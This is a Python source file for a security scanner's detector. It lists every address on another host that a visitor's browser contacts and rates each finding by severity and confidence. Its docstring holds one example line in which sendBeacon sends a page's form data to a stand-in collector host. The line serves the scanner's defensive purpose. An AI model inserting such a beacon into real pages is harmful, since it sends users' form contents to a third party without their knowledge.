"""# browser-request.

## What it does
Lists every address on another host that the browser of a visitor contacts: scripts, images, frames, styles, forms and
redirects in HTML, Vue, SVG and templates, in the text and the strings of PHP files; `fetch`, XMLHttpRequest, beacons,
WebSockets, workers, imports, jQuery and axios in JavaScript and TypeScript; `url()` and `@import` in CSS; content
security policies. Constants, concatenations and common decoders are folded within a file. An address of which not even
the host is known is listed once for each file and function as `unresolved`. A link that a person clicks is no request.

## Why is this bad
What the browser contacts learns who works with which project, and a script from another host can read everything on
the page, whatever the server's firewall says.

## Example
```js
navigator.sendBeacon("https://collector.example.net/v", JSON.stringify(form));
```

## References
- OWASP, Third Party JavaScript Management
- CWE-829
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator

import msgspec

from scanner.analysis.destinations import UNRESOLVED
from scanner.detectors.base import Detector, Scene, rule
from scanner.detectors.remarks import BROWSER, Place, destination, finding_of, first_of_each, is_named, places
from scanner.detectors.targets import known_host
from scanner.detectors.temper import READ_BY_PEOPLE, SAMPLE
from scanner.model.finding import Category, Confidence, Finding, Severity
from scanner.model.other import HOLE

RULE = rule("browser-request", Category.EGRESS, "Browser of the visitor contacts another host", __doc__)
RUNS = ("runs", "code of the host")
"""Detail of a request that loads a script, a frame or a plug-in into the page."""
QUIET = ("context", "for developer tools only")
"""Detail of an address that no browser fetches by itself."""
_QUIET = frozenset({"quiet", "policy", "navigation"})
_WORDS = {
    "code": "loads code from",
    "form": "sends a form to",
    "navigation": "leads the browser to",
    "policy": "lets pages contact",
}


def _find(scene: Scene) -> Iterable[Finding]:
    return first_of_each(_all(scene))


def _all(scene: Scene) -> Iterator[Finding]:
    for place in places(scene, "request"):
        remark = place.remark
        target = destination(scene, remark)
        if is_named(target.name):
            found = _named(scene, place, target.name, target.shown)
            for_people = place.path.lower().endswith(READ_BY_PEOPLE) and place.path not in scene.result.state.included
            yield _of_text(found) if for_people else found
        elif target.name == UNRESOLVED and remark.grade != "quiet":
            yield finding_of(
                RULE,
                place,
                severity=Severity.INFO,
                confidence=Confidence.POSSIBLE,
                destinations=[UNRESOLVED],
                details=[BROWSER],
                message=f"{remark.api} goes to an address that could not be resolved: {target.shown[:120]}",
            )


def _of_text(found: Finding) -> Finding:
    """A request in a text for people, which no browser takes for a page."""
    details = tuple(sorted({*found.details, SAMPLE}))
    return msgspec.structs.replace(found, severity=Severity.INFO, details=details)


def _named(scene: Scene, place: Place, host: str, shown: str) -> Finding:
    remark = place.remark
    quiet = remark.grade in _QUIET or known_host(scene, host)
    word = _WORDS.get(remark.grade, "names" if remark.grade == "quiet" else "contacts")
    details = [BROWSER, ("url", shown.partition("?")[0][:200])]
    if remark.grade == "code":
        details.append(RUNS)
    if remark.grade == "quiet":
        details.append(QUIET)
    return finding_of(
        RULE,
        place,
        severity=Severity.INFO if quiet else Severity.LOW,
        confidence=Confidence.LIKELY if HOLE in remark.target else Confidence.CERTAIN,
        destinations=[host],
        details=details,
        message=f"{remark.api} {word} {host}",
    )


DETECTOR = Detector(RULE, _find)
